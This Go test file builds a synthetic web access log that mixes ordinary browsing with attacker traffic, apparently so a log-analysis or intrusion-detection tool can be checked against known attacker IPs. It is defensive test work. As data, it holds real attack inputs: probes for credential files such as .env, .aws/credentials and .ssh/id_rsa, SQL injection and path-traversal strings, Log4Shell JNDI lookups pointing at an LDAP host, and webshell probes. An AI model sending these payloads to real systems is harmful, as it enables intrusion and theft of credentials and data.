package e2e

import (
	"bytes"
	"compress/gzip"
	"fmt"
	"slices"
	"time"
)

// fixture is a small web access log (Apache/nginx combined format) written by the test, with the
// actors that attack and the ones that only browse, so the expectations come from the file itself.
type fixture struct {
	log       []byte
	attackers []string // every IP that sent an attack
	benign    []string // IPs that only browsed
}

// request is one line's worth of a visit.
type request struct {
	method, target string
	status         int
	ua             string
}

const (
	browserUA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"
	scannerUA = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"
)

// makeFixture writes the log. Addresses are from the documentation ranges (RFC 5737).
func makeFixture() fixture { return makeFixtureSize(0) }

// makeFixtureSize writes the same log followed by ordinary browsing from a few thousand more
// visitors (100.64.0.0/10) until it is at least minBytes long.
func makeFixtureSize(minBytes int) fixture {
	var f fixture
	var buf bytes.Buffer
	t0 := time.Date(2026, 11, 24, 9, 0, 0, 0, time.UTC)
	n := 0
	write := func(ip string, r request) {
		ts := t0.Add(time.Duration(n) * 7 * time.Second)
		n++
		fmt.Fprintf(&buf, "%s - - [%s] \"%s %s HTTP/1.1\" %d %d \"-\" \"%s\"\n",
			ip, ts.Format("02/Jan/2006:15:04:05 -0700"), r.method, r.target, r.status, 512+n%900, r.ua)
	}

	browse := []request{
		{"GET", "/", 200, browserUA},
		{"GET", "/static/app.css", 200, browserUA},
		{"GET", "/static/app.js", 200, browserUA},
		{"GET", "/favicon.ico", 404, browserUA},
		{"GET", "/blog/how-we-ship", 200, browserUA},
		{"GET", "/about", 200, browserUA},
		{"GET", "/pricing", 200, browserUA},
	}
	attacks := map[string][]request{
		// Sensitive files and backups.
		"198.51.100.23": {
			{"GET", "/.env", 404, scannerUA},
			{"GET", "/.env.production", 404, scannerUA},
			{"GET", "/.git/config", 404, scannerUA},
			{"GET", "/.git/HEAD", 404, scannerUA},
			{"GET", "/.aws/credentials", 404, scannerUA},
			{"GET", "/backup.sql", 404, scannerUA},
			{"GET", "/db.sql.gz", 404, scannerUA},
			{"GET", "/config.php.bak", 404, scannerUA},
			{"GET", "/wp-config.php.bak", 404, scannerUA},
			{"GET", "/.ssh/id_rsa", 404, scannerUA},
			{"GET", "/server-status", 403, scannerUA},
			{"GET", "/phpinfo.php", 404, scannerUA},
		},
		// SQL injection and path traversal.
		"203.0.113.77": {
			{"GET", "/products?id=1%27%20OR%20%271%27%3D%271", 500, "sqlmap/1.8.2#stable (https://sqlmap.org)"},
			{"GET", "/products?id=1%20UNION%20SELECT%20username,password%20FROM%20users--", 500, "sqlmap/1.8.2#stable (https://sqlmap.org)"},
			{"GET", "/search?q=1%27%3B%20DROP%20TABLE%20users--", 400, "sqlmap/1.8.2#stable (https://sqlmap.org)"},
			{"GET", "/products?id=1%20AND%20SLEEP(5)", 200, "sqlmap/1.8.2#stable (https://sqlmap.org)"},
			{"GET", "/download?file=../../../../etc/passwd", 400, "sqlmap/1.8.2#stable (https://sqlmap.org)"},
			{"GET", "/static/..%2f..%2f..%2f..%2fetc%2fpasswd", 404, "sqlmap/1.8.2#stable (https://sqlmap.org)"},
			{"GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", 400, "sqlmap/1.8.2#stable (https://sqlmap.org)"},
		},
		// Log4Shell in the user agent, then admin panels and webshells.
		"192.0.2.150": {
			{"GET", "/", 200, "${jndi:ldap://192.0.2.150:1389/Exploit}"},
			{"GET", "/login", 200, "${jndi:ldap://192.0.2.150:1389/Exploit}"},
			{"GET", "/?x=${jndi:ldap://192.0.2.150:1389/a}", 200, "${jndi:ldap://192.0.2.150:1389/Exploit}"},
			{"GET", "/phpmyadmin/index.php", 404, "${jndi:ldap://192.0.2.150:1389/Exploit}"},
			{"GET", "/wp-admin/install.php", 404, "${jndi:ldap://192.0.2.150:1389/Exploit}"},
			{"POST", "/shell.php", 404, "${jndi:ldap://192.0.2.150:1389/Exploit}"},
			{"GET", "/c99.php", 404, "${jndi:ldap://192.0.2.150:1389/Exploit}"},
		},
	}
	f.benign = []string{"192.0.2.10", "192.0.2.11", "198.51.100.40", "198.51.100.41", "203.0.113.5", "203.0.113.6"}

	for ip := range attacks {
		f.attackers = append(f.attackers, ip)
	}
	slices.Sort(f.attackers)
	// Interleave: each round every visitor makes one request, each attacker one attack.
	for round := 0; round < 12; round++ {
		for i, ip := range f.benign {
			write(ip, browse[(round+i)%len(browse)])
		}
		for _, ip := range f.attackers {
			if round < len(attacks[ip]) {
				write(ip, attacks[ip][round])
			}
		}
	}
	for i := 0; buf.Len() < minBytes; i++ {
		v := i % 3000
		write(fmt.Sprintf("100.64.%d.%d", v/250, v%250+1), browse[(i/3000)%len(browse)])
	}
	f.log = buf.Bytes()
	return f
}

func gzipped(b []byte) []byte {
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	zw.Write(b)
	zw.Close()
	return buf.Bytes()
}
